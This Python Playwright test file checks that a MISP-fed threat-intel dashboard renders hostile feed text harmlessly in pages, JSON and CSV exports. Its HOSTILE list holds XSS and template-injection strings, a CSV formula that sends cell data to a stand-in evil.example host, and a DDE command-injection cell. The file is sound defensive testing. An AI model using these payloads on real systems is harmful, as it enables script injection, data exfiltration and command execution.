"""Hostile text from a feed, through a real ZMQ socket, on every page and in every file: it is text."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from watchfloor.testing import FeedMaker
from watchfloor.web.server import serving

HOSTILE = (
    '<img src=x onerror="window.pwned=1">',
    '"><script>window.pwned=1</script>',
    "</script><script>window.pwned=1</script>",
    "javascript:window.pwned=1",
    "' onmouseover='window.pwned=1",
    "{{ 7 * 7 }}${7*7}<% 7*7 %>",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202egnp.exe\u2066",
    "A\u0301" * 60,
    "long " * 80,
    "line\nbreak\rand\ttab\0nul",
    "<!--",
    "]]>&amp;&#60;",
)
MISP = "https://misp.example"
OpenPage = Callable[..., Page]


def attribute(number: int, text: str) -> dict[str, object]:
    """What MISP sends when an attribute is added, with the same text wherever there is one."""
    org = {"id": str(number), "uuid": f"55f6ea5e-2c60-40e5-964f-{number:012d}", "name": text}
    tag = {"id": str(number), "name": text, "colour": 'red;}"><b>'}
    return {
        "Attribute": {
            "id": str(1000 + number),
            "event_id": str(number),
            "uuid": f"0cda0c2f-3c87-40dd-bbc8-{number:012d}",
            "type": text,
            "timestamp": str(int(time.time())),
            "category": text,
            "value": text,
            "comment": text,
            "distribution": "5",
            "Tag": [tag],
        },
        "Event": {"id": str(number), "info": text, "org_id": str(number), "orgc_id": str(number),
                  "distribution": "3", "Orgc": org},
        "action": "add",
    }  # fmt: skip


def event(number: int, text: str) -> dict[str, object]:
    tag = {"id": str(number), "name": text, "colour": "#ffffff"}
    org = {"id": str(number), "uuid": f"55f6ea5e-2c60-40e5-964f-{number:012d}", "name": text}
    return {
        "Event": {"id": str(number), "uuid": f"5c9e9b1e-7a6c-4c4e-9a0c-{number:012d}", "info": text,
                  "timestamp": str(int(time.time())), "distribution": "3", "orgc_id": str(number)},
        "Orgc": org,
        "EventTag": [{"Tag": tag}],
        "action": "add",
    }  # fmt: skip


def sent(number: int, text: str) -> Iterator[tuple[str, Any]]:
    yield "misp_json_event", event(number, text)
    yield "misp_json_attribute", attribute(number, text)


@pytest.fixture
def url(make_feed: FeedMaker) -> Iterator[str]:
    feed = make_feed(plugins={"activity": {}, "trendings": {}}, misp_url=MISP)
    messages = [one for number, text in enumerate(HOSTILE, 1) for one in sent(number, text)]
    for topic, body in messages:
        feed.send(topic, body)
    feed.settle(len(messages))
    assert feed.site.failures() == []
    with serving(feed.site.site, feed.site.url) as url:
        yield url


QUERY = f"q={quote(HOSTILE[0])}&org={quote(HOSTILE[1])}&follow_events={quote(HOSTILE[2])}"
PAGES = ("/", "/trendings/", "/status", f"/?{QUERY}", f"/trendings/?{QUERY}", "/%3Cscript%3E")
ATTRIBUTES = "[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())"


def test_hostile_text_is_text_on_every_page(url: str, open_page: OpenPage) -> None:
    page = open_page(f"{url}/")
    for path in PAGES:
        page.goto(f"{url}{path}")
        expect(page.locator("#connection")).to_have_attribute("data-state", "live")
        assert page.evaluate("window.pwned") is None, path
        links = page.eval_on_selector_all(
            "a[href]:not([data-action])", "links => links.map((a) => a.getAttribute('href'))"
        )
        assert links
        assert [link for link in links if not link.startswith(("/", "#", "?", f"{MISP}/"))] == [], path
        assert [name for name in page.evaluate(ATTRIBUTES) if name.startswith("on")] == [], path


def test_hostile_text_is_shown_as_it_is(url: str, open_page: OpenPage) -> None:
    page = open_page(f"{url}/")
    for text in (HOSTILE[0], HOSTILE[1], HOSTILE[5]):
        expect(page.get_by_text(text, exact=True).first).to_be_visible()


def test_hostile_text_is_text_in_every_file(url: str, open_page: OpenPage) -> None:
    page = open_page(f"{url}/status")
    panels = [panel["panel"] for panel in page.request.get(f"{url}/api/v1/panels").json()["panels"]]
    assert {"activity/attributes", "trendings/tags"} <= set(panels)
    for panel in panels:
        told = page.request.get(f"{url}/api/v1/panels/{panel}")
        assert told.headers["content-type"] == "application/json", panel
        assert told.headers["x-content-type-options"] == "nosniff"
        sheet = page.request.get(f"{url}/api/v1/panels/{panel}.csv")
        assert "attachment" in sheet.headers["content-disposition"]
        cells = [cell for row in csv.reader(io.StringIO(sheet.text())) for cell in row]
        assert [cell for cell in cells if calculates(cell)] == [], panel


def calculates(cell: str) -> bool:
    """Whether a spreadsheet would take a cell for a formula."""
    try:
        float(cell)
    except ValueError:
        return cell.lstrip().startswith(("=", "+", "-", "@"))
    return False
